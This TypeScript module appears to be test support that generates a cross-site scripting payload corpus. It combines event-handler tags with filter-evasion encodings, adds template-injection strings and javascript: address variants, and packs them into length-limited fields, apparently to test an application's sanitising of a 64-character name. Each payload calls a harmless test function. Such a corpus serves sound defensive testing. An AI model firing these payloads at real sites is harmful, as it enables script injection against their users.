/**
 * Words that would run a script if they ever became elements: a small grammar, written out.
 *
 * Each calls `x()`, which only the test's page has. They are short, because a person's name has 64 letters.
 */

/** Elements that run something by themselves, and what makes them. */
const ELEMENTS: [tag: string, attributes: string][] = [
  ["img", "src=x onerror"],
  ["img", "src onerror"],
  ["image", "src=x onerror"],
  ["svg", "onload"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["iframe", "onload"],
  ["embed", "src=/ onload"],
  ["object", "data=/ onload"],
  ["video", "src=x onerror"],
  ["audio", "src=x onerror"],
  ["input", "autofocus onfocus"],
  ["button", "autofocus onfocus"],
  ["select", "autofocus onfocus"],
  ["textarea", "autofocus onfocus"],
  ["details", "open ontoggle"],
  ["marquee", "onstart"],
  ["script", "src=x onerror"],
  ["link", "rel=stylesheet href=x onerror"],
  ["p", "tabindex=0 autofocus onfocus"],
  ["div", "onmouseover"],
  ["a", "href=# onclick"],
  ["form", "onsubmit"],
  ["dialog", "open onclose"],
  ["math", "onclick"],
  ["mtext", "onmouseover"],
  ["table", "background=x onclick"],
  ["style", "onload"],
  ["input", "type=image src=x onerror"],
  ["p", "contenteditable autofocus onfocus"],
];

/** Ways to write the same element so that a filter reads past it. */
const ENCODINGS: ((tag: string, attributes: string) => string)[] = [
  (tag, attributes) => `<${tag} ${attributes}=x()>`,
  (tag, attributes) => `<${tag.toUpperCase()} ${attributes.toUpperCase()}=x()>`,
  (tag, attributes) => `<${tag}/${attributes.replaceAll(" ", "/")}=x()>`,
  (tag, attributes) => `<${tag} ${attributes}="x()"`,
  (tag, attributes) => `"><${tag} ${attributes}=x()>`,
  (tag, attributes) => `'><${tag} ${attributes}='x()'>`,
  (tag, attributes) => `--><${tag} ${attributes}=x()>`,
  (tag, attributes) => `</p><${tag} ${attributes}=x()>`,
  (tag, attributes) => `</title><${tag} ${attributes}=x()>`,
  (tag, attributes) => `]]><${tag} ${attributes}=x()>`,
  (tag, attributes) => `<<${tag} ${attributes}=x()>`,
  (tag, attributes) => `<x <${tag} ${attributes}=x()>`,
  (tag, attributes) => `&lt;${tag} ${attributes}=x()&gt;`,
  (tag, attributes) => `&#60;${tag} ${attributes}=x()&#62;`,
  (tag, attributes) => `&#x3c${tag} ${attributes}=&#120;()>`,
  (tag, attributes) => `\\x3c${tag} ${attributes}=x()\\x3e`,
  (tag, attributes) => `<${tag} ${attributes}\u00a0=x()>`,
];

const SCRIPTS = [
  "<script>x()</script>",
  "<script>x()//",
  "</script><script>x()</script>",
  "<svg><script>x()</script>",
  "<svg><a href=javascript:x()>a",
  "<math href=javascript:x()>a",
  "<iframe src=javascript:x()>",
  "<object data=javascript:x()>",
  "<form action=javascript:x()>",
  "<base href=javascript:x()//>",
  "{{constructor.constructor('x()')()}}",
  "${x()}",
  "<%=x()%>",
  "<!--<img src='--><img src=x onerror=x()>'-->",
  "<style><img src='</style><img src=x onerror=x()>'>",
  "<noscript><p title='</noscript><img src=x onerror=x()>'>",
  "<svg></p><style><a id='</style><img src=x onerror=x()>'>",
  "<math><mtext><table><mglyph><style><img src=x onerror=x()>",
];

/** Addresses that are scripts. */
export const ADDRESSES = [
  "javascript:x()",
  "JaVaScRiPt:x()",
  "java\tscript:x()",
  "&#106;avascript:x()",
  "&#x6A;avascript:x()",
  "javascript&colon;x()",
  "%6Aavascript:x()",
  "\u0001javascript:x()",
  "javascript://a.example/%0Ax()",
  "data:text/html,<script>x()</script>",
  "vbscript:x()",
  "https:javascript:x()",
];

export const PAYLOADS: string[] = [
  ...new Set([...ELEMENTS.flatMap((element) => ENCODINGS.map((write) => write(...element))), ...SCRIPTS]),
];

/** As many in each text as fit; what is longer than one text stands nowhere. */
export function packed(payloads: string[], longest: number): string[] {
  const texts: string[] = [];
  for (const payload of payloads.filter(({ length }) => length <= longest)) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + 1 + payload.length <= longest) texts[texts.length - 1] = `${last} ${payload}`;
    else texts.push(payload);
  }
  return texts;
}
